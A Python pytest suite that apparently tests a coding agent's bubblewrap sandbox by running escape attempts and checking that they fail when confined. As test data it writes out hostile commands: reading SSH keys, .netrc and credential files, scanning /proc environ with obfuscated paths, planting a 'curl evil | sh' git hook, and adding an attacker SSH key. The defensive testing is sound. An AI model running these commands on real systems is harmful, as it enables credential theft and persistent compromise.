"""Escape attempts against the sandbox, with real bubblewrap and real processes.

Each attack runs under ``workspace-write`` (the default) and must fail; where it applies the
same command then runs with ``full-access`` and must succeed, so each test could fail. The
"machine" is a temp dir outside /tmp with its own $HOME and $CODEY_HOME: credentials in the
usual places, the worker's identity file, and a git repository as the session's workdir.
"""

from __future__ import annotations

import asyncio
import json
import os
import random
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from codey_protocol.worker import CommandResult, ExecOutput, ExecStart, ExecWrite, RunCommand
from codey_testkit.procs import pids_with as processes_with
from codey_testkit.waiting import wait_until
from codey_worker.config import McpServerConfig
from codey_worker.confine import ActionRefused
from codey_worker.mcp import McpManager
from codey_worker.policy import LocalPolicy
from codey_worker.processes import ProcessTable
from codey_worker.sandbox import Sandbox, SandboxSettings, detect
from codey_worker.shell import run_command

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(detect().kind != "bwrap",
                       reason=f"needs a working bubblewrap: {detect().reason}"),
]

KEY = "PRIVATE-KEY-7f3a"
CREDENTIAL = "WORKER-CREDENTIAL-91c2"
NETRC = "NETRC-PASSWORD-55d0"
GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.com",
       "-c", "init.defaultBranch=main"]


def git(cwd: Path, *args: str) -> str:
    return subprocess.run([*GIT, *args], cwd=cwd, check=True, capture_output=True,
                          text=True).stdout


@dataclass
class Machine:
    base: Path
    home: Path  # $HOME
    codey: Path  # $CODEY_HOME
    work: Path  # the session's workdir, a git repository
    sandbox: Sandbox
    policy: LocalPolicy

    def run(self, argv: list[str], *, mode: Any = "workspace-write", network: bool = False,
            workdir: Path | None = None, cwd: str | None = None,
            session_id: str = "ses_hostile", timeout_s: float = 60) -> CommandResult:
        action = RunCommand(action_id="a", session_id=session_id, argv=argv,
                            workdir=str(workdir or self.work), cwd=cwd, sandbox=mode,
                            network=network, timeout_s=timeout_s)

        async def ignore(stream: str, text: str) -> None:
            pass

        return asyncio.run(run_command(action, ignore, self.policy, sandbox=self.sandbox,
                                       grace_s=1.0))


@pytest.fixture
def machine(outside_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> Machine:
    home = outside_tmp / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(KEY + "\n")
    (home / ".netrc").write_text(f"machine example.com login me password {NETRC}\n")
    (home / "outside.txt").write_text("original\n")
    codey = home / ".codey"
    codey.mkdir()
    (codey / "worker.json").write_text(json.dumps({"credential": CREDENTIAL}))
    work = home / "src" / "proj"
    work.mkdir(parents=True)
    git(work, "init", "-q")
    (work / "tracked.txt").write_text("one\n")
    (work / ".codey").mkdir()
    (work / ".codey" / "settings.json").write_text("{}\n")
    git(work, "add", "tracked.txt")
    git(work, "commit", "-qm", "first")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("CODEY_HOME", str(codey))
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    sandbox = Sandbox(detect(), codey, SandboxSettings())
    return Machine(base=outside_tmp, home=home, codey=codey, work=work, sandbox=sandbox,
                   policy=LocalPolicy(allowed_roots=[outside_tmp]))


def output(result: CommandResult) -> str:
    return result.stdout + result.stderr



def snapshot(root: Path) -> dict[str, tuple[int, int]]:
    """Every path under ``root`` with its size and mtime."""
    seen = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            st = path.lstat()
            seen[str(path)] = (st.st_size, st.st_mtime_ns)
    return seen


# --------------------------------------------------------------------------- writes


def test_a_write_outside_the_workdir_fails(machine: Machine) -> None:
    outside, new = machine.home / "outside.txt", machine.home / "new.txt"
    attack = ["sh", "-c", f"echo pwned > {outside}; echo pwned > {new}"]
    result = machine.run(attack)
    assert result.exit_code != 0
    assert outside.read_text() == "original\n" and not new.exists()
    assert result.sandbox_denied and "Read-only file system" in result.sandbox_hint

    bare = machine.run(attack, mode="full-access")
    assert bare.exit_code == 0 and not bare.sandbox_denied
    assert outside.read_text() == "pwned\n" and new.exists()


def test_git_hooks_config_and_codey_folder_stay_read_only(machine: Machine) -> None:
    hook = machine.work / ".git" / "hooks" / "pre-commit"
    config = machine.work / ".git" / "config"
    before = config.read_text()
    plant = ["sh", "-c", "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit"]
    result = machine.run(plant)
    assert result.exit_code != 0 and not hook.exists()
    assert result.sandbox_denied
    redirect = machine.run(["git", "config", "core.hooksPath", str(machine.base)])
    assert redirect.exit_code != 0 and config.read_text() == before
    assert "Read-only file system" in redirect.stderr
    # nor can the folder be swapped for one of the command's making
    swap = machine.run(["sh", "-c", "mv .git .git-old && mkdir -p .git/hooks"])
    assert swap.exit_code != 0 and (machine.work / ".git" / "HEAD").is_file()
    settings = machine.run(["sh", "-c", "echo '{\"evil\": 1}' > .codey/settings.json"])
    assert settings.exit_code != 0
    assert (machine.work / ".codey" / "settings.json").read_text() == "{}\n"

    assert machine.run(plant, mode="full-access").exit_code == 0 and hook.exists()
    bare = machine.run(["git", "config", "core.hooksPath", str(machine.base)],
                       mode="full-access")
    assert bare.exit_code == 0 and config.read_text() != before


def test_a_worktree_cannot_reach_its_repository_through_the_git_file(
        machine: Machine) -> None:
    tree = machine.home / "src" / "tree"
    git(machine.work, "worktree", "add", "-q", str(tree))
    pointer = (tree / ".git").read_text()
    hook = machine.work / ".git" / "hooks" / "post-checkout"
    attack = ["sh", "-c",
              'echo evil > "$(git rev-parse --git-common-dir)/hooks/post-checkout"; '
              'echo "gitdir: /elsewhere" > .git']
    result = machine.run(attack, workdir=tree)
    assert result.exit_code != 0 and not hook.exists()
    assert (tree / ".git").read_text() == pointer
    # ordinary git still works in the worktree
    status = machine.run(["git", "status", "--porcelain"], workdir=tree)
    assert status.exit_code == 0, status.stderr

    assert machine.run(attack, workdir=tree, mode="full-access").exit_code == 0
    assert hook.exists() and (tree / ".git").read_text() == "gitdir: /elsewhere\n"


# --------------------------------------------------------------------------- reads


def test_codey_home_and_credentials_are_invisible(machine: Machine) -> None:
    # the path is built in the script: a command naming $CODEY_HOME is refused before it runs
    # (test_naming_a_protected_path_is_refused_outside_the_sandbox)
    attack = ["sh", "-c", f"d={str(machine.codey)[:-2]}; ls -a ${{d}}ey ~/.ssh; "
                          "cat ${d}ey/worker.json ~/.ssh/id_ed25519 ~/.netrc"]
    result = machine.run(attack)
    for secret in (KEY, CREDENTIAL, NETRC):
        assert secret not in output(result)
    assert "worker.json" not in result.stdout and "id_ed25519" not in result.stdout
    assert result.sandbox_denied and "hidden by the sandbox" in result.sandbox_hint

    bare = machine.run(attack, mode="full-access")
    for secret in (KEY, CREDENTIAL, NETRC):
        assert secret in bare.stdout


def test_credentials_stay_hidden_when_the_workdir_contains_them(machine: Machine) -> None:
    """The workdir is the home directory: bound writable, then the hidden paths covered."""
    attack = ["sh", "-c", "cat .cod''ey/worker.json .ssh/id_ed25519 .netrc; "
                          "echo ssh-ed25519 AAAA attacker >> .ssh/authorized_keys; "
                          "echo x > .cod''ey/worker-config.json"]
    result = machine.run(attack, workdir=machine.home)
    for secret in (KEY, CREDENTIAL, NETRC):
        assert secret not in output(result)
    assert not (machine.home / ".ssh" / "authorized_keys").exists()
    assert not (machine.codey / "worker-config.json").exists()
    # the rest of the home directory is writable: it is the workdir
    assert machine.run(["sh", "-c", "echo ok > notes.txt"], workdir=machine.home).exit_code == 0
    assert (machine.home / "notes.txt").read_text() == "ok\n"

    bare = machine.run(attack, workdir=machine.home, mode="full-access")
    assert KEY in bare.stdout and CREDENTIAL in bare.stdout
    assert (machine.home / ".ssh" / "authorized_keys").exists()


WORKER = """
import asyncio, json, os, sys
from codey_protocol.worker import RunCommand
from codey_worker.shell import run_command
from codey_worker.policy import LocalPolicy
from codey_worker.processes import ProcessTable

me = os.getpid()
# the words are built in the script: outside the sandbox the worker refuses a command that
# names /proc/<pid>/environ (test_naming_a_protected_path_is_refused_outside_the_sandbox)
script = (f"e=env''iron; cat /pr''oc/{me}/$e; cat /pr''oc/1/$e; cat /pr''oc/$PPID/$e; "
          "cat /pr''oc/self/$e; for f in /pr''oc/[0-9]*/$e; do cat $f; done; "
          "echo; ls /proc")
action = RunCommand(action_id="a", session_id="s", argv=["sh", "-c", script],
                    workdir=sys.argv[2], sandbox=sys.argv[1])

async def ignore(stream, text):
    pass

result = asyncio.run(run_command(action, ignore, LocalPolicy(allowed_roots=[sys.argv[2]])))
print(json.dumps({"pid": me, "stdout": result.stdout, "stderr": result.stderr}))
"""


def test_the_workers_environ_is_out_of_reach(machine: Machine) -> None:
    """A worker process whose environment holds secrets (one named like a token, which the
    command's environment never gets; one it does not pass on): its command looks for them
    in every /proc/*/environ it can see."""
    token, other = (f"{what}-{random.randrange(10**9)}" for what in ("token", "other"))
    env = {**os.environ, "CODEY_TEST_API_TOKEN": token, "CODEY_WORKER_ONLY": other}

    def worker(mode: str) -> dict[str, Any]:
        done = subprocess.run([sys.executable, "-c", WORKER, mode, str(machine.work)],
                              env=env, capture_output=True, text=True, timeout=60, check=True)
        seen: dict[str, Any] = json.loads(done.stdout)
        return seen

    boxed = worker("workspace-write")
    everything = boxed["stdout"] + boxed["stderr"]
    assert token not in everything and other not in everything
    assert f"/proc/{boxed['pid']}/environ: No such file or directory" in boxed["stderr"]
    assert str(boxed["pid"]) not in boxed["stdout"].split()  # a PID namespace of its own

    bare = worker("full-access")
    assert token in bare["stdout"] and other in bare["stdout"]


@pytest.mark.parametrize("argv", [
    ["cat", "/proc/1/environ"],
    ["sh", "-c", "tr '\\0' '\\n' < /proc/$PPID/environ"],
    ["python3", "-c", "print(open('/proc/self/../1/environ').read())"],
    ["cat", "$CODEY_HOME/worker.json"],
    ["sh", "-c", "cat ${CODEY_HOME}/worker.json"],
    ["cat", "~/.codey/worker.json"],
    ["cat", "../../.codey/worker.json"],
    ["cp", "-r", "../../.codey", "stolen"],
])
def test_naming_a_protected_path_is_refused_outside_the_sandbox(machine: Machine,
                                                                argv: list[str]) -> None:
    for mode in ("full-access", "workspace-write"):
        with pytest.raises(ActionRefused) as refused:
            machine.run(argv, mode=mode)
        assert refused.value.code == "protected_path"
    assert not (machine.work / "stolen").exists()


def test_ordinary_paths_are_not_protected(machine: Machine) -> None:
    (machine.work / "codey_home_notes.txt").write_text("notes\n")
    result = machine.run(["sh", "-c", "cat codey_home_notes.txt; ls ~/src; cat /proc/loadavg"],
                         mode="full-access")
    assert result.exit_code == 0 and "notes" in result.stdout and "proj" in result.stdout


# --------------------------------------------------------------------------- network


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(10)
    try:
        yield server
    finally:
        server.close()


def test_loopback_is_unreachable_with_the_network_off(machine: Machine,
                                                      listener: socket.socket) -> None:
    port = listener.getsockname()[1]
    probe = [sys.executable, "-c",
             f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); "
             "print('connected')"]
    off = machine.run(probe)
    assert off.exit_code != 0 and "connected" not in off.stdout
    assert "Connection refused" in off.stderr
    assert off.sandbox_denied and "network is off" in off.sandbox_hint

    on = machine.run(probe, network=True)
    assert on.exit_code == 0 and on.stdout == "connected\n"
    listener.accept()[0].close()  # it reached this very listener
    assert machine.run(probe, mode="full-access").stdout == "connected\n"
    listener.accept()[0].close()


# --------------------------------------------------------------------------- processes


def test_a_background_process_does_not_outlive_the_action(machine: Machine) -> None:
    tag = f"{300 + random.random():.6f}"  # a sleep no one else runs
    for script in (f"sleep {tag} &", f"sleep {tag} >/dev/null 2>&1 </dev/null &",
                   f"setsid sleep {tag} >/dev/null 2>&1 &"):
        result = machine.run(["sh", "-c", script])
        assert result.exit_code == 0 and not result.timed_out
        assert processes_with(tag) == [], script  # at once: run_command waited for it

    bare = machine.run(["sh", "-c", f"sleep {tag} >/dev/null 2>&1 </dev/null &"],
                       mode="full-access")
    assert bare.exit_code == 0
    try:
        wait_until(lambda: processes_with(tag), timeout=10, what="the bare sleep to run")
    finally:
        for pid in processes_with(tag):
            os.kill(pid, signal.SIGKILL)


# --------------------------------------------------------------------------- long-lived processes


def _table(machine: Machine) -> ProcessTable:
    return ProcessTable(machine.policy, machine.sandbox, grace_s=1.0)


def _start(machine: Machine, argv: list[str], **kw: Any) -> ExecStart:
    kw.setdefault("yield_ms", 30_000)
    return ExecStart(action_id=f"x{random.randrange(10**9)}", session_id="ses_hostile",
                     argv=argv, workdir=str(machine.work), **kw)


def test_an_exec_process_cannot_write_outside_the_workdir(machine: Machine) -> None:
    outside, new = machine.home / "outside.txt", machine.home / "new-by-exec.txt"
    attack = ["sh", "-c", f"echo mine > inside.txt; echo hook > .git/hooks/pre-commit; "
                          f"echo pwned > {outside}; echo pwned > {new}"]

    async def main(mode: Any) -> ExecOutput:
        table = _table(machine)
        try:
            return await table.start(_start(machine, attack, sandbox=mode))
        finally:
            await table.close()

    boxed = asyncio.run(main("workspace-write"))
    assert not boxed.running and boxed.exit_code != 0
    assert "Read-only file system" in boxed.output and boxed.sandbox_denied
    assert outside.read_text() == "original\n" and not new.exists()
    assert not (machine.work / ".git" / "hooks" / "pre-commit").exists()
    assert (machine.work / "inside.txt").read_text() == "mine\n"  # the workdir it may write

    bare = asyncio.run(main("full-access"))
    assert bare.exit_code == 0, bare.output
    assert outside.read_text() == "pwned\n" and new.exists()


def test_an_exec_processs_background_children_die_with_its_session(machine: Machine) -> None:
    t = f"{500 + random.random():.6f}"
    # every way out it could try: &, nohup with its output elsewhere, setsid, a double fork
    script = (f"sleep {t} & nohup sleep {t} >/dev/null 2>&1 </dev/null & "
              f"setsid sleep {t} >/dev/null 2>&1 & (sleep {t} &) ; echo up; sleep {t}")

    async def main() -> None:
        table = _table(machine)
        try:
            started = await table.start(_start(machine, ["sh", "-c", script], yield_ms=0))
            await asyncio.to_thread(wait_until, lambda: len(processes_with(t)) >= 5,
                                    what="the sleeps")
            # the action that started it has long answered: only the session holds it now
            assert started.running
            assert await table.stop_session("ses_hostile") == 1
            assert processes_with(t) == []
            with pytest.raises(ActionRefused) as gone:
                await table.write(ExecWrite(action_id="w", session_id="ses_hostile",
                                            process_id=started.process_id))
            assert gone.value.code == "process_gone"
        finally:
            await table.close()
            for pid in processes_with(t):
                os.kill(pid, signal.SIGKILL)

    asyncio.run(main())


# --------------------------------------------------------------------------- ordinary work


def test_ordinary_work_runs(machine: Machine) -> None:
    wrote = machine.run([sys.executable, "-c",
                         "open('out.txt', 'w').write('hello from the sandbox')"])
    assert wrote.exit_code == 0, wrote.stderr
    assert (machine.work / "out.txt").read_text() == "hello from the sandbox"

    # git against the read-only .git: status and diff read; nothing needs a lock
    (machine.work / "tracked.txt").write_text("one\ntwo\n")
    status = machine.run(["git", "status", "--porcelain"])
    assert (status.exit_code, status.stderr) == (0, "")
    assert " M tracked.txt" in status.stdout.splitlines()
    diff = machine.run(["git", "diff"])
    assert diff.exit_code == 0 and "+two" in diff.stdout.splitlines()
    log = machine.run(["git", "log", "--oneline"])
    assert log.exit_code == 0 and "first" in log.stdout
    fresh = machine.run(["git", "init", "-q", "fresh"])
    assert fresh.exit_code == 0, fresh.stderr
    assert (machine.work / "fresh" / ".git" / "HEAD").is_file()

    # a small project's tests
    project = machine.work / "calc"
    project.mkdir()
    (project / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (project / "test_calc.py").write_text(
        "import unittest\nfrom calc import add\n\n"
        "class T(unittest.TestCase):\n"
        "    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n")
    tests = machine.run([sys.executable, "-m", "unittest", "-v"], cwd="calc")
    assert tests.exit_code == 0, tests.stderr
    assert "test_add" in tests.stderr and "OK" in tests.stderr.splitlines()

    # /tmp is the session's own: kept between its commands, not the host's
    name = f"codey-keep-{random.randrange(10**9)}"
    assert machine.run(["sh", "-c", f"echo kept > /tmp/{name}; echo $TMPDIR"]).stdout == "/tmp\n"
    assert machine.run(["cat", f"/tmp/{name}"]).stdout == "kept\n"
    assert not Path(f"/tmp/{name}").exists()
    assert (machine.codey / "sandbox" / "tmp" / "ses_hostile" / name).read_text() == "kept\n"
    other = machine.run(["cat", f"/tmp/{name}"], session_id="ses_other")
    assert other.exit_code != 0  # another session's /tmp is another folder


def test_read_only_writes_nowhere(machine: Machine) -> None:
    name = f"ro-{random.randrange(10**9)}"
    attack = ["sh", "-c", f"echo x > {name}; echo x > {machine.home}/{name}; "
                          f"echo scratch > /tmp/{name} && cat /tmp/{name}; cat tracked.txt"]
    before = snapshot(machine.base)
    result = machine.run(attack, mode="read-only")
    assert snapshot(machine.base) == before  # not a byte, not a folder
    assert not Path(f"/tmp/{name}").exists()
    # it reads, and its /tmp works for the command's own lifetime
    assert result.stdout == "scratch\none\n"
    assert machine.run(["cat", f"/tmp/{name}"], mode="read-only").exit_code != 0
    touch = machine.run(["touch", name], mode="read-only")
    assert touch.exit_code != 0 and touch.sandbox_denied

    assert machine.run(attack, mode="workspace-write").exit_code == 0
    assert (machine.work / name).exists() and not (machine.home / name).exists()


def test_read_only_sees_a_workdir_under_tmp(tmp_path: Path, machine: Machine) -> None:
    machine.policy = LocalPolicy(allowed_roots=[machine.base, tmp_path])
    (tmp_path / "f.txt").write_text("visible\n")
    result = machine.run(["cat", "f.txt"], workdir=tmp_path, mode="read-only")
    assert (result.exit_code, result.stdout) == (0, "visible\n")
    assert machine.run(["touch", "g"], workdir=tmp_path, mode="read-only").exit_code != 0
    assert not (tmp_path / "g").exists()


# --------------------------------------------------------------------------- MCP servers

PROBE = Path(__file__).with_name("sandbox_probe_server.py")


def test_a_sandboxed_mcp_server_is_confined_too(machine: Machine,
                                                listener: socket.socket) -> None:
    port = listener.getsockname()[1]
    # the probe from the machine's own folder: the sandbox's /tmp is private, and a checkout
    # of this repository may live in the host's /tmp
    probe = machine.base / PROBE.name
    shutil.copyfile(PROBE, probe)
    servers = {
        "probe": McpServerConfig(name="probe", command=sys.executable, args=[str(probe)],
                                 network=False),
        "online": McpServerConfig(name="online", command=sys.executable, args=[str(probe)]),
        "bare": McpServerConfig(name="bare", command=sys.executable, args=[str(probe)],
                                sandbox=False),
        "cached": McpServerConfig(name="cached", command=sys.executable, args=[str(probe)],
                                  writable_paths=("~/cache",)),
    }
    outside = machine.home / "outside.txt"
    cache = machine.home / "cache"
    cache.mkdir()

    async def main() -> dict[str, Any]:
        manager = McpManager(servers, sandbox=machine.sandbox)
        seen: dict[str, Any] = {}
        try:
            call = manager.call
            w = machine.work
            seen["inside"] = await call("probe", "write", {"path": str(w / "m.txt"),
                                                           "text": "ok"}, workdir=w)
            seen["outside"] = await call("probe", "write", {"path": str(outside),
                                                            "text": "pwned"}, workdir=w)
            seen["key"] = await call("probe", "read", {"path": str(machine.codey /
                                                                   "worker.json")}, workdir=w)
            seen["offline"] = await call("probe", "connect", {"port": port}, workdir=w)
            seen["no_cache"] = await call("probe", "write", {"path": str(cache / "a"),
                                                             "text": "x"}, workdir=w)
            seen["cache"] = await call("cached", "write", {"path": str(cache / "b"),
                                                           "text": "x"}, workdir=w)
            seen["online"] = await call("online", "connect", {"port": port}, workdir=w)
            seen["bare_key"] = await call("bare", "read", {"path": str(machine.codey /
                                                                       "worker.json")},
                                          workdir=w)
            seen["full"] = await call("probe", "read", {"path": str(machine.codey /
                                                                    "worker.json")},
                                      workdir=w, sandbox="full-access")
        finally:
            await manager.close()
        return seen

    seen = asyncio.run(main())
    assert not seen["inside"].is_error and (machine.work / "m.txt").read_text() == "ok"
    assert "Read-only file system" in seen["outside"].text
    assert outside.read_text() == "original\n"
    assert "No such file" in seen["key"].text and CREDENTIAL not in seen["key"].text
    assert "Connection refused" in seen["offline"].text
    # a server's own writable_paths are its alone
    assert "Read-only file system" in seen["no_cache"].text and not (cache / "a").exists()
    assert seen["cache"].text == "written" and (cache / "b").read_text() == "x"
    assert seen["online"].text == "connected"
    listener.accept()[0].close()
    # the owner's "sandbox": false, and a full-access session, run it bare
    assert CREDENTIAL in seen["bare_key"].text and CREDENTIAL in seen["full"].text
